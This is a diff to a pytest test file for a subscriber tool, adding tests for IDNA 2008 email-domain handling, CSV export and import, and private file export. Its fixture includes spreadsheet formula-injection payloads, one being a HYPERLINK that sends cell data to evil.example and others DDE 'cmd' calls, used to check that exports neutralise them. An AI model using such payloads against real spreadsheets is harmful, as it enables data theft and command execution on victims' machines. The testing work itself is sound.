@@ -10,7 +10,16 @@ from pathlib import Path
 import pytest
 
 from conftest import Project
-from policy_site.notify.addresses import InvalidAddress, mask, mask_text, normalise_address, normalise_name, parse_csv
+from policy_site.notify.addresses import (
+    InvalidAddress,
+    csv_cell,
+    csv_value,
+    mask,
+    mask_text,
+    normalise_address,
+    normalise_name,
+    parse_csv,
+)
 from policy_site.notify.store import SubscriberStore
 
 
@@ -44,6 +53,42 @@ def test_addresses_are_normalised(raw: str, expected: str) -> None:
 def test_bad_addresses_are_refused(raw: str, fragment: str) -> None:
     with pytest.raises(InvalidAddress, match=fragment):
         normalise_address(raw)
+
+
+@pytest.mark.parametrize("raw, expected", [
+    ("x@faß.de", "x@xn--fa-hia.de"),  # IDNA 2008: ß is a letter of its own (IDNA 2003 made it fass.de)
+    ("x@FAẞ.DE", "x@xn--fa-hia.de"),  # capital sharp s maps to ß, not to ss
+    ("x@fass.de", "x@fass.de"),
+    ("x@xn--fa-hia.de", "x@xn--fa-hia.de"),  # the ASCII form is kept as is
+    ("x@σίσυφος.gr", "x@xn--kxa6ajbbmh.gr"),  # the final sigma is kept (IDNA 2003 made it σ)
+    ("x@ΣΊΣΥΦΟΣ.GR", "x@xn--kxa6akbbkh.gr"),  # upper case is mapped to lower case (Σ → σ)
+    ("x@ÖBB.AT", "x@xn--bb-eka.at"),
+    ("x@bücher.example。", "x@xn--bcher-kva.example"),  # an ideographic full stop is a dot
+    ("x@क्‍ष.example", "x@xn--11b2ezcw70k.example"),  # a joiner after a virama is allowed
+])
+def test_international_domains_follow_idna_2008(raw: str, expected: str) -> None:
+    assert normalise_address(raw) == expected
+    assert normalise_address(expected) == expected  # stable: the stored form normalises to itself
+
+
+@pytest.mark.parametrize("raw", [
+    "x@a\u200db.example",  # a zero-width joiner where IDNA 2008 does not allow one
+    "x@😀.example",  # emoji are not allowed in IDNA 2008
+    "x@☃.example",
+    "x@xn--garbage.example",  # not a valid A-label
+    "x@ab--c.xn--.example",
+])
+def test_invalid_international_domains_are_refused(raw: str) -> None:
+    with pytest.raises(InvalidAddress, match="not a valid domain name"):
+        normalise_address(raw)
+
+
+def test_sharp_s_and_ss_are_two_subscribers(tmp_path: Path) -> None:
+    store = SubscriberStore(tmp_path / "subs.sqlite3")
+    sharp, _ = store.add("x@faß.de")
+    plain, _ = store.add("x@fass.de")
+    assert sharp.id != plain.id and sharp.email == "x@xn--fa-hia.de" and plain.email == "x@fass.de"
+    assert store.get("X@FAẞ.de") == sharp and store.counts()["active"] == 2
 
 
 def test_names_are_one_line() -> None:
@@ -180,6 +225,59 @@ def test_cli_import_export_round_trip(project: Project, tmp_path: Path) -> None:
     project.run("subscribers", "import", str(dump), env=other, check=True)
     assert project.run("subscribers", "export", env=other, check=True).stdout.splitlines()[1:] == \
         exported.splitlines()[1:]
+
+
+FORMULAS = {"eq@example.org": '=HYPERLINK("https://evil.example/?x="&A1,"click")', "plus@example.org": "+cmd|' /C calc'!A0",
+            "minus@example.org": "-1+1", "at@example.org": "@SUM(1+1)*cmd|' /C calc'!A0",
+            "quoted@example.org": "'=already quoted", "quote@example.org": "'plain",
+            "-dash@example.org": "Dash", "=x@example.org": "+x", "ok@example.org": "Plain Name"}
+
+
+@pytest.mark.parametrize("value, cell", [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+    ("'=1", "''=1"), ("''-1", "'''-1"), ("'text", "'text"), ("text", "text"), ("", ""), ("'", "'"),
+    ("a=1", "a=1"), ("2026-01-02T03:04:05Z", "2026-01-02T03:04:05Z"),
+])
+def test_csv_cells_are_neutralised_and_read_back(value: str, cell: str) -> None:
+    assert csv_cell(value) == cell and csv_value(cell) == value
+
+
+def test_export_neutralises_formulas_and_import_reads_them_back(project: Project, tmp_path: Path) -> None:
+    env = _env(tmp_path)
+    for address, name in FORMULAS.items():
+        project.run("subscribers", "add", f"--name={name}", "--", address, env=env, check=True)
+    exported = project.run("subscribers", "export", env=env, check=True).stdout
+    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'=HYPERLINK(" in exported and "'-dash@example.org" in exported and "'+x" in exported
+    assert "''=already quoted" in exported and ",'plain," in exported
+
+    dump = tmp_path / "dump.csv"
+    project.run("subscribers", "export", "-o", str(dump), env=env, check=True)
+    other = {"POLICY_SUBSCRIBERS_DB": str(tmp_path / "other.sqlite3")}
+    project.run("subscribers", "import", str(dump), env=other, check=True)
+    with sqlite3.connect(other["POLICY_SUBSCRIBERS_DB"]) as conn:
+        stored = dict(conn.execute("SELECT email, name FROM subscribers").fetchall())
+    assert stored == FORMULAS  # exactly the names given, the added quotes removed
+    assert project.run("subscribers", "export", env=other, check=True).stdout == exported
+
+
+def test_export_to_a_file_is_private_and_atomic(project: Project, tmp_path: Path) -> None:
+    env = _env(tmp_path)
+    project.run("subscribers", "add", "ann@example.org", "--name", "Ann", env=env, check=True)
+    target = tmp_path / "out" / "subscribers.csv"
+    target.parent.mkdir()
+    target.write_text("old contents\n")
+    target.chmod(0o644)
+    result = project.run("subscribers", "export", "-o", str(target), env=env, check=True)
+    assert "exported 1 to" in result.stderr
+    assert target.stat().st_mode & 0o777 == 0o600
+    assert target.read_text().splitlines()[1].startswith("ann@example.org,Ann,")
+    assert [p.name for p in target.parent.iterdir()] == ["subscribers.csv"]  # no temporary file left
+    missing = project.run("subscribers", "export", "-o", str(tmp_path / "nowhere" / "x.csv"), env=env)
+    assert missing.returncode == 1 and "Traceback" not in missing.stderr
+    assert missing.stderr.strip() == (f"policy subscribers: error: cannot write the export: the folder does not exist "
+                                      f"({tmp_path / 'nowhere' / 'x.csv'}); create it, or choose another place")
 
 
 def test_database_default_is_outside_the_site_and_git_ignored(project: Project) -> None:
